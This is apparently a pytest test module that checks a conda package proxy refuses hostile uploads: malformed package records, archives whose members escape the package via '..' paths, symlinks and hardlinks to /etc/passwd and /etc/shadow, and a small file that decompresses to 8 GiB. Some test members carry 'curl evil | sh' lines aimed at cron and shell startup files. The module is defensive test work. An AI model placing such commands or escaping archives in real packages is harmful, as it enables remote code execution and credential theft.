"""Hostile uploaders against a real proxy process: records that would break the channel for
everyone, archives that reach outside the package or unpack to gigabytes. See upload_env.py
for what every refusal must look like."""

from __future__ import annotations

import json
import subprocess
import sys
import tarfile
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest

from tests.hostile.archives import (
    STEM,
    Member,
    conda,
    conda_bytes,
    index_json,
    index_member,
    tar_bytes,
    tar_bz2,
    zstd,
    zstd_stream,
)
from tests.hostile.upload_env import Env, env, refused, upload
from tests.support.processes import ROOT

pytestmark = pytest.mark.integration
__all__ = ["env"]  # the module-scoped fixture, one proxy for this module

SYM, HARD = tarfile.SYMTYPE, tarfile.LNKTYPE


def channel_still_installs(env: Env, workdir: Path) -> None:
    """py-rattler installs an unrelated package (shards and repodata.json); each subdir's whole
    repodata.json parses."""
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "tests.hostile.channel_check",
            f"{env.proxy.url}/local",
            str(workdir),
            "datatool >=1",
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=180,
    )
    lines = [line for line in done.stdout.splitlines() if line.startswith("{")]
    assert lines, done.stderr[-3000:]
    result = json.loads(lines[-1])
    assert result["ok"], result
    for names in result["installed"].values():
        assert "datatool" in names


# --- records ---------------------------------------------------------------------------------

BAD_RECORDS: list[tuple[str, str, dict[str, Any]]] = [
    ("build_number", STEM, {"build_number": 2**70}),  # msgpack cannot encode it: shards 500
    ("build_number", STEM, {"build_number": -1}),
    ("build_number", STEM, {"build_number": True}),
    ("build_number", STEM, {"build_number": 1.5}),
    ("timestamp", STEM, {"timestamp": 2**70}),
    ("timestamp", STEM, {"timestamp": 2**53}),
    ("timestamp", STEM, {"timestamp": float("nan")}),  # Python's json.loads reads NaN
    ("timestamp", STEM, {"timestamp": float("inf")}),
    ("depends", STEM, {"depends": "python"}),
    ("depends", STEM, {"depends": [1]}),
    ("depends", STEM, {"depends": ["numpy ==="]}),
    ("depends", STEM, {"depends": ["*"]}),
    ("constrains", STEM, {"constrains": ["numpy >=1"] * 5000}),
    ("noarch", STEM, {"noarch": "foo"}),
    ("track_features", STEM, {"track_features": 1}),
    ("features", STEM, {"features": ["mkl"]}),
    ("license", STEM, {"license": 1}),
    ("license", STEM, {"license": "\ud800"}),
    ("platform", STEM, {"platform": 1}),
    ("python_site_packages_path", STEM, {"python_site_packages_path": "/etc"}),
    ("run_exports", STEM, {"run_exports": {"weak": "libfoo"}}),
    ("legacy_bz2_md5", STEM, {"legacy_bz2_md5": "x"}),
    ("purls", STEM, {"purls": "x"}),
    ("url", STEM, {"url": "https://evil.example/hostile-1.0-h0.conda"}),
    ("x_nested", STEM, {"x_nested": [[[[[[[[1]]]]]]]]}),
    ("x_bigint", STEM, {"x_bigint": 2**64}),
    ("version", "hostile-1.-h0", {}),  # rattler refuses the version: repodata.json fails whole
    ("name", "hostile+x-1.0-h0", {}),
]


@pytest.mark.parametrize(
    ("field", "stem", "fields"),
    BAD_RECORDS,
    ids=[f"{field}-{i}" for i, (field, _, _) in enumerate(BAD_RECORDS)],
)
def test_a_record_field_clients_cannot_read_is_refused_and_the_channel_still_installs(
    env, tmp_path, field, stem, fields
):
    data = conda(index=index_json(stem, **fields), stem=stem)
    error = refused(env, upload(env, f"{stem}.conda", data), 400, f"'{field}'")
    assert error["field"] == field
    channel_still_installs(env, tmp_path)


# --- archives --------------------------------------------------------------------------------

MEMBER_ATTACKS: dict[str, list[Member]] = {
    "symlink-after-index-json-to-etc-passwd": [
        Member("lib/x", type=SYM, linkname="../../../etc/passwd")
    ],
    "absolute-symlink": [Member("lib/x", type=SYM, linkname="/etc/passwd")],
    "absolute-path": [Member("/etc/cron.d/evil", b"* * * * * root sh -c 'curl evil|sh'")],
    "dotdot-path": [Member("lib/../../../.bashrc", b"curl evil | sh")],
    "hardlink-to-etc-shadow": [Member("lib/shadow", type=HARD, linkname="/etc/shadow")],
    "hardlink-outside-the-package": [Member("lib/x", type=HARD, linkname="etc/shadow")],
    "character-device": [Member("dev/mem", type=tarfile.CHRTYPE)],
    "fifo": [Member("lib/fifo", type=tarfile.FIFOTYPE)],
    "symlink-chain-climbing-out": [
        Member("p/q/s", type=SYM, linkname="../.."),
        Member("t", type=SYM, linkname="p/q/s/.."),
    ],
    "write-through-a-symlinked-dir": [
        Member("etc", type=SYM, linkname="lib"),
        Member("etc/profile.d/evil.sh", b"curl evil | sh"),
    ],
    "second-index-json": [index_member(index_json(depends=["evil"]))],
}


@pytest.mark.parametrize("where", ["info-tar", "pkg-tar", "tar-bz2"])
@pytest.mark.parametrize("attack", sorted(MEMBER_ATTACKS))
def test_members_anywhere_in_the_archive_cannot_reach_outside_the_package(env, attack, where):
    members = MEMBER_ATTACKS[attack]
    if where == "tar-bz2":
        filename, data = f"{STEM}.tar.bz2", tar_bz2(members)
    else:
        filename = f"{STEM}.conda"
        data = conda(*((members, ()) if where == "info-tar" else ((), members)))
    error = refused(env, upload(env, filename, data), 400)
    assert error["member"] in {m.name for m in members} | {"info/index.json"}, error


def good_info() -> bytes:
    return zstd(tar_bytes([index_member(index_json())]))


CONTAINER_ATTACKS = {
    "extra-zip-member": conda_bytes(good_info(), zstd(tar_bytes([])), extra=[("run.sh", b"x")]),
    "dotdot-zip-member": conda_bytes(good_info(), zstd(tar_bytes([])), extra=[("../x", b"x")]),
    "deflated-zip-members": conda_bytes(
        good_info(), zstd(tar_bytes([])), compression=zipfile.ZIP_DEFLATED
    ),
    "no-pkg-tarball": conda_bytes(
        good_info(), b"", names=("metadata.json", f"info-{STEM}.tar.zst", "other.bin")
    ),
    "members-hidden-after-a-damaged-header": conda_bytes(
        good_info(),
        zstd(
            tar_bytes([Member("a", b"x")], end=b"\xff" * 512)
            + tar_bytes([Member("../../../etc/evil", b"x")])
        ),
    ),
    "truncated-zstd-in-a-valid-zip": conda_bytes(
        good_info(), zstd(tar_bytes([Member("a", bytes(range(256)) * 64)]))[:200]
    ),
}


@pytest.mark.parametrize("attack", sorted(CONTAINER_ATTACKS))
def test_a_conda_zip_holds_only_its_three_whole_members(env, attack):
    refused(env, upload(env, f"{STEM}.conda", CONTAINER_ATTACKS[attack]), 400)


@pytest.fixture(scope="module")
def eight_gib_bomb() -> bytes:
    """A ~263 KB .conda whose pkg tarball holds one 8 GiB member of zeros."""
    head = tar_bytes([Member("share/blob", declared=8 * 2**30)], end=b"")
    chunks = iter([head, *(bytes(8 * 2**20) for _ in range(1024)), bytes(1024)])
    return conda_bytes(good_info(), zstd_stream(chunks))


def test_an_8_gib_member_in_a_small_conda_is_refused_in_well_under_a_second(env, eight_gib_bomb):
    assert len(eight_gib_bomb) < 300_000
    started = time.monotonic()
    error = refused(
        env, upload(env, f"{STEM}.conda", eight_gib_bomb), 413, "declares 8589934592 bytes"
    )
    assert time.monotonic() - started < 1.0
    assert error["member"] == "share/blob"


def test_zeros_after_the_end_of_the_tarball_count_against_the_budget(env):
    """Headers can be honest and the stream still huge: decompressed bytes are counted too."""
    pkg = zstd_stream(iter([tar_bytes([Member("a", b"x")]), *(bytes(2**20) for _ in range(400))]))
    refused(env, upload(env, f"{STEM}.conda", conda_bytes(good_info(), pkg)), 413, "budget")
